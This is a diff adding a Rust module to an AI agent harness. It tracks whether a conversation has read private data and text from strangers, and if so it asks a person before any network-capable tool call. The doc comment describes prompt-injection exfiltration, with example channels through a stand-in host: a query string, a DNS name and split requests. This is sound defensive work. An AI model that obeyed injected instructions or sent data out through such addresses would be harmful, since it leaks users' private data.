@@ -1,0 +1,418 @@
+//! Follows what a conversation has read, and protects against data that is carried out: once private data and words
+//! that strangers wrote were read, a person is asked before anything goes out.
+
+use std::{borrow::Cow, collections::HashMap};
+
+use serde::{Deserialize, Serialize};
+
+use crate::{
+    journal::{AnswerCheck, Decider, Decision, Fact, Repeat, Source, Sources},
+    message::{Block, CallOutcome, Media, Message, Role, ToolCall, ToolResult, VendorData},
+    tool::{
+        SideEffect::{Mutate, Network, Read, Write},
+        SideEffects,
+    },
+};
+
+/// What reads an address declares, whoever reads it.
+const LOOKS_UP: SideEffects = SideEffects::of(&[Read, Network]);
+/// The longest name of a source, in bytes. A tool's name is never longer.
+const LONGEST_NAME: usize = 64;
+
+/// A policy against data that is carried out: once a conversation has read private data *and* words
+/// that strangers wrote, a person is asked before every call of a tool that declares `network`.
+///
+/// Words of strangers can hold instructions, and a model may follow them. An ordinary `GET` is enough to carry out
+/// all that the model has read: in the path or the query of the address (`https://attacker.example/?q=<the file>`),
+/// in the host's name (`<the file>.attacker.example`, which is sent with the look-up of the name alone), or piece
+/// by piece over several calls. Without this policy a tool that declares `read` + `network` runs without a
+/// question, since most of these tools only look something up. With this policy it does so only as long as the
+/// conversation lacks private data or words of strangers.
+///
+/// Whether a result counts follows from what its tool declares, unless the program decides for the tool's name:
+///
+/// | declared | private data | words of strangers |
+/// |---|---|---|
+/// | none | no | no |
+/// | `read` alone, or with `write` or `mutate` | yes | no |
+/// | `network`, `read` + `network` | no | yes |
+/// | `read` + `network`, with `write` or `mutate` | yes | yes |
+///
+/// A file may hold a stranger's words, too: add `.untrusted("read_file")` if it may.
+///
+/// Everything that brings something to the model counts, also if it failed, was stopped or ended late, and it counts
+/// in each later run of the conversation, in forks, and after the conversation was opened again or summarized:
+///
+/// | what the model reads | counts |
+/// |---|---|
+/// | the result of a tool, or the result that the program or a person gives for it | as in the table above |
+/// | the answer of an agent | if it has read private data, or words of strangers |
+/// | the result of a function that runs agents in its call | as its tool declares, and as what its agents have read |
+/// | an objection of a tool that checks an answer | as the tool declares |
+/// | an objection of a function | both, under the name `verify` |
+/// | a search of the web by the vendor, and the pages that it reads | words of strangers, under the names `web_search` and `web_fetch` |
+/// | the result of another tool that the vendor runs, such as `code_execution` or `file_search` | both, under the vendor's name for it |
+/// | a picture, a sound or a document of the user | private data, under the name [`USER_FILE`](Self::USER_FILE); by its address: words of strangers |
+/// | a conversation that was kept elsewhere | both, for each of its calls |
+/// | the user's own words and those of the program, and the reason of a denial | no |
+///
+/// A name counts wherever a tool of this name has read, also in an agent below. The name of an agent or of a tool
+/// that runs agents decides about all that they have read: with `.trusted("research")`, an answer of the agent
+/// `research` holds no words of strangers for its caller. Inside of that agent they still count. For an
+/// agent, what its caller has read before the call counts too, since the task may repeat it. For an agent that a function
+/// runs, so do the side effects that the function declares, and what earlier agents of the same call have read.
+///
+/// ```
+/// use harness::policy::{DataFlowPolicy, Permissions};
+///
+/// let permissions = Permissions::default()
+///     .data_flow(DataFlowPolicy::default().private("search_mail").untrusted("search_mail").trusted("weather"));
+/// # let _ = permissions;
+/// ```
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct DataFlowPolicy {
+    private: HashMap<String, bool>,
+    untrusted: HashMap<String, bool>,
+}
+
+impl DataFlowPolicy {
+    /// The name by which files count that the user has said: pictures, sounds and documents. No tool has this name.
+    pub const USER_FILE: &str = "user file";
+
+    /// Results of this tool are private, whatever the tool declares.
+    #[must_use]
+    pub fn private(mut self, tool: impl Into<String>) -> Self {
+        self.private.insert(tool.into(), true);
+        self
+    }
+
+    /// Results of this tool are not private, whatever the tool declares.
+    #[must_use]
+    pub fn public(mut self, tool: impl Into<String>) -> Self {
+        self.private.insert(tool.into(), false);
+        self
+    }
+
+    /// Results of this tool may hold words of strangers, whatever the tool declares.
+    #[must_use]
+    pub fn untrusted(mut self, tool: impl Into<String>) -> Self {
+        self.untrusted.insert(tool.into(), true);
+        self
+    }
+
+    /// Results of this tool hold no words of strangers, whatever the tool declares.
+    #[must_use]
+    pub fn trusted(mut self, tool: impl Into<String>) -> Self {
+        self.untrusted.insert(tool.into(), false);
+        self
+    }
+
+    /// The reason to ask a person about a call of a tool with these effects, if there is one.
+    pub(super) fn reason_to_ask(&self, effects: SideEffects, taint: Taint) -> Option<&'static str> {
+        // A side effect that a later version declares may carry data out, too.
+        let stays = effects.is_within(&[Read, Write, Mutate]);
+        (!stays && taint.private && taint.untrusted).then_some(
+            "this conversation has read private data and words that strangers wrote, and the call \
+             can carry data out",
+        )
+    }
+
+    /// What these sources bring.
+    pub(super) fn taint(&self, sources: &[Source]) -> Taint {
+        sources.iter().fold(Taint::default(), |all, source| {
+            let (declared, inside) = (declared(source.effects), self.taint(&source.inside));
+            let said = |by_name: &HashMap<String, bool>| by_name.get(&source.tool).copied();
+            Taint {
+                private: all.private
+                    | said(&self.private).unwrap_or(declared.private || inside.private),
+                untrusted: all.untrusted
+                    | said(&self.untrusted).unwrap_or(declared.untrusted || inside.untrusted),
+            }
+        })
+    }
+}
+
+/// What the results of a tool with these side effects bring.
+fn declared(effects: SideEffects) -> Taint {
+    let reads_nothing = effects.is_within(&[Write, Network, Mutate]);
+    let reads_over_network = effects.has(Network) && effects.is_within(&[Read, Network]);
+    Taint {
+        private: !reads_nothing && !reads_over_network,
+        untrusted: !effects.is_within(&[Read, Write, Mutate]),
+    }
+}
+
+/// What a conversation has read so far, by one [`DataFlowPolicy`].
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct Taint {
+    /// Data that not everybody may see.
+    pub private: bool,
+    /// Words that were written by somebody other than the program and its user.
+    pub untrusted: bool,
+}
+
+/// What a conversation has read, derived from its facts. It does not depend on a policy, so a policy that a later
+/// process sets judges what was read before, too.
+#[derive(Clone, Debug, Default)]
+#[doc(hidden)]
+pub struct TaintTracker {
+    sources: Sources,
+    /// The calls of the last answer, by id.
+    calls: HashMap<String, TrackedCall>,
+    /// Whether a fact has said, since the last answer, what brought the words of the check of the answer.
+    has_checked: bool,
+}
+
+/// A call of the last answer.
+#[derive(Clone, Debug)]
+struct TrackedCall {
+    tool: String,
+    /// What its result counts as; `None` if it counts already, or nothing runs.
+    reads: Option<SideEffects>,
+}
+
+impl TaintTracker {
+    #[doc(hidden)]
+    pub fn sources(&self) -> &Sources {
+        &self.sources
+    }
+
+    /// Applies a fact. Returns whether something was read that was not read before. A fact that brings something to the model
+    /// counts, and what is not known of it counts as private and untrusted.
+    #[doc(hidden)]
+    pub fn apply(&mut self, fact: &Fact) -> bool {
+        match fact {
+            Fact::Given { transcript } => {
+                transcript.messages().iter().fold(false, |is_new, message| {
+                    // It is not known what the tools declared then.
+                    let calls = message.calls().fold(is_new, |is_new, call| {
+                        self.add(call.name(), SideEffects::ALL) | is_new
+                    });
+                    self.add_message(message) | calls
+                })
+            }
+            Fact::UserSaid { message, .. } | Fact::Steered { message } => self.add_message(message),
+            Fact::ModelReplied { message, .. } | Fact::Interrupted { message, .. } => {
+                let Some(message) = message else { return false };
+                let call = |call: &ToolCall| {
+                    let name = if call.name().len() <= LONGEST_NAME { call.name() } else { "" };
+                    let (tool, reads) = (name.to_owned(), Some(SideEffects::ALL));
+                    (call.id().to_owned(), TrackedCall { tool, reads })
+                };
+                self.calls = message.calls().map(call).collect();
+                self.has_checked = false;
+                self.add_message(message)
+            }
+            Fact::CallDecided { call, decision } => {
+                let reads = match decision {
+                    // The result says what is wrong with the call, and nothing runs.
+                    Decision::Allow { by: Decider::Call, .. } | Decision::Deny { .. } => None,
+                    // What an agent reads is known only from a fact of its own.
+                    Decision::Allow { repeat: Repeat::Continues, .. } => Some(SideEffects::ALL),
+                    Decision::Allow { side_effects, .. } => Some(*side_effects),
+                };
+                if let Some(called) = self.calls.get_mut(call) {
+                    called.reads = reads;
+                }
+                false
+            }
+            Fact::SourcesRead { call, sources } => {
+                match call {
+                    Some(call) => {
+                        if let Some(called) = self.calls.get_mut(call) {
+                            called.reads = None;
+                        }
+                    }
+                    None => self.has_checked = true,
+                }
+                self.sources.add_all(sources)
+            }
+            // A call that was stopped tells its output so far, and one that has failed its error.
+            Fact::CallFinished { result, .. } | Fact::CallSettled { result, .. } => {
+                self.add_result(result)
+            }
+            Fact::CallEnded { tool, .. } => {
+                // The call counts since it was told to stop.
+                let is_known = self.sources.all().iter().any(|source| source.tool == *tool);
+                !is_known && self.add(tool, SideEffects::ALL)
+            }
+            Fact::AnswerRejected { by: AnswerCheck::Verifier, .. } => {
+                !self.has_checked && self.add("verify", SideEffects::ALL)
+            }
+            // What is wrong with the model's own words.
+            Fact::AnswerRejected { by: AnswerCheck::Schema, .. }
+            // An answer goes to the tool, whose result counts.
+            | Fact::CallAnswered { .. }
+            | Fact::CallStarted { .. }
+            | Fact::UnkeptAgentStarted { .. }
+            | Fact::CallWaits { .. }
+            | Fact::CallUndecided { .. }
+            | Fact::CallCleared { .. }
+            | Fact::GrantRevoked { .. }
+            // The program's own words.
+            | Fact::Resumed { .. }
+            | Fact::AnswerWanted { .. }
+            | Fact::AnswerAccepted {}
+            | Fact::ToolsFound { .. }
+            | Fact::ContextPinned { .. }
+            // A summary tells what was read before.
+            | Fact::ContextCleared { .. }
+            | Fact::CompactionStarted { .. }
+            | Fact::ContextCompacted { .. }
+            | Fact::CompactionFailed { .. }
+            | Fact::VendorSummaryRefused { .. }
+            | Fact::ContextOverflowed { .. }
+            | Fact::Reopened { .. }
+            | Fact::CalledBy { .. }
+            | Fact::Forked {} => false,
+        }
+    }
+
+    fn add(&mut self, tool: &str, effects: SideEffects) -> bool {
+        let name = if tool.len() <= LONGEST_NAME { tool } else { "" };
+        self.sources.add_tool(name, effects)
+    }
+
+    fn add_result(&mut self, result: &ToolResult) -> bool {
+        if matches!(result.outcome(), CallOutcome::Denied | CallOutcome::NotStarted) {
+            return false;
+        }
+        let Self { calls, sources, .. } = self;
+        match calls.get(result.call_id()) {
+            None => sources.add_tool("", SideEffects::ALL),
+            Some(TrackedCall { reads: None, .. }) => false,
+            Some(TrackedCall { tool, reads: Some(effects) }) => sources.add_tool(tool, *effects),
+        }
+    }
+
+    fn add_message(&mut self, message: &Message) -> bool {
+        message.blocks().iter().fold(false, |is_new, block| {
+            let adds = match block {
+                Block::Image(media) | Block::Audio(media) | Block::Document(media) => {
+                    // What the model itself has made tells nothing new.
+                    message.role() != Role::Assistant
+                        && self.add(DataFlowPolicy::USER_FILE, of_file(media))
+                }
+                Block::Vendor(data) => {
+                    hosted(data).is_some_and(|(tool, effects)| self.add(&tool, effects))
+                }
+                // Some servers search and tell it only by the sources that the answer names.
+                Block::Text(text) => text.citations().iter().fold(false, |is_new, citation| {
+                    let adds = match (&citation.url, &citation.file) {
+                        (Some(_), _) => self.add("web_search", LOOKS_UP),
+                        (None, Some(_)) => self.add("file_search", SideEffects::ALL),
+                        (None, None) => false,
+                    };
+                    adds | is_new
+                }),
+                // Calls count by their results, and results are facts of their own.
+                Block::ToolCall(_) | Block::ToolResult(_) | Block::Reasoning(_) => false,
+            };
+            adds | is_new
+        })
+    }
+}
+
+fn of_file(media: &Media) -> SideEffects {
+    if media.url().is_some() { LOOKS_UP } else { Read.into() }
+}
+
+/// The name of the vendor's tool that has left this block, and what it counts as, if it reads anything.
+fn hosted(data: &VendorData) -> Option<(Cow<'static, str>, SideEffects)> {
+    #[derive(Default, Deserialize)]
+    #[serde(default)]
+    struct Members {
+        r#type: String,
+        name: String,
+    }
+
+    // Chat Completions has no blocks of such tools: an answer names its sources.
+    if data.wire() == "chat" {
+        return None;
+    }
+    let Members { r#type: kind, name } = serde_json::from_str(data.json()).unwrap_or_default();
+    let name = match kind.as_str() {
+        // Made of the conversation itself.
+        "image_generation_call" | "tool_search_call" | "tool_search_output" => return None,
+        kind if kind.starts_with("compaction") => return None,
+        "server_tool_use" => name,
+        kind if kind.starts_with("mcp") => "mcp".to_owned(),
+        kind => {
+            let ends = ["_tool_result", "_call_output", "_call"];
+            let tool = ends.into_iter().find_map(|end| kind.strip_suffix(end));
+            tool.unwrap_or(kind).to_owned()
+        }
+    };
+    Some(match name.as_str() {
+        "web_search" => ("web_search".into(), LOOKS_UP),
+        "web_fetch" => ("web_fetch".into(), LOOKS_UP),
+        _ => (name.into(), SideEffects::ALL),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{DataFlowPolicy, Taint, declared, hosted};
+    use crate::{
+        message::VendorData,
+        tool::{
+            SideEffect::{self, Mutate, Network, Read, Write},
+            SideEffects,
+        },
+    };
+
+    #[test]
+    fn what_counts_is_what_the_table_says() {
+        let tainted = Taint { private: true, untrusted: true };
+        let table: [(&[SideEffect], bool, bool); 12] = [
+            (&[], false, false),
+            (&[Write], false, false),
+            (&[Mutate], false, false),
+            (&[Read], true, false),
+            (&[Read, Write], true, false),
+            (&[Read, Mutate], true, false),
+            (&[Network], false, true),
+            (&[Network, Mutate], false, true),
+            (&[Read, Network], false, true),
+            (&[Read, Network, Write], true, true),
+            (&[Read, Network, Mutate], true, true),
+            (&SideEffect::ALL, true, true),
+        ];
+        for (effects, private, untrusted) in table {
+            let effects = SideEffects::of(effects);
+            let policy = DataFlowPolicy::default();
+            assert_eq!(declared(effects), Taint { private, untrusted }, "{effects}");
+            assert_eq!(policy.reason_to_ask(effects, tainted).is_some(), untrusted, "{effects}");
+        }
+    }
+
+    #[test]
+    fn a_tool_of_the_vendor_that_is_not_known_counts_as_private_and_untrusted() {
+        for (json, expected) in [
+            (r#"{"type":"web_search_tool_result"}"#, Some(("web_search", false))),
+            (r#"{"type":"web_search_call","id":"a"}"#, Some(("web_search", false))),
+            (r#"{"type":"web_fetch_tool_result"}"#, Some(("web_fetch", false))),
+            (r#"{"type":"server_tool_use","name":"web_search"}"#, Some(("web_search", false))),
+            (
+                r#"{"type":"server_tool_use","name":"code_execution"}"#,
+                Some(("code_execution", true)),
+            ),
+            (r#"{"type":"code_execution_tool_result"}"#, Some(("code_execution", true))),
+            (r#"{"type":"code_interpreter_call"}"#, Some(("code_interpreter", true))),
+            (r#"{"type":"file_search_call"}"#, Some(("file_search", true))),
+            (r#"{"type":"mcp_tool_result"}"#, Some(("mcp", true))),
+            (r#"{"type":"mcp_call"}"#, Some(("mcp", true))),
+            (r#"{"type":"something_new"}"#, Some(("something_new", true))),
+            (r#"{"type":7}"#, Some(("", true))),
+            ("[]", Some(("", true))),
+            (r#"{"type":"compaction"}"#, None),
+            (r#"{"type":"image_generation_call"}"#, None),
+        ] {
+            let data = VendorData::new("responses", json).expect("JSON");
+            let found = hosted(&data);
+            let found = found.as_ref().map(|(tool, effects)| (&**tool, declared(*effects).private));
+            assert_eq!(found, expected, "{json}");
+        }
+    }
+}
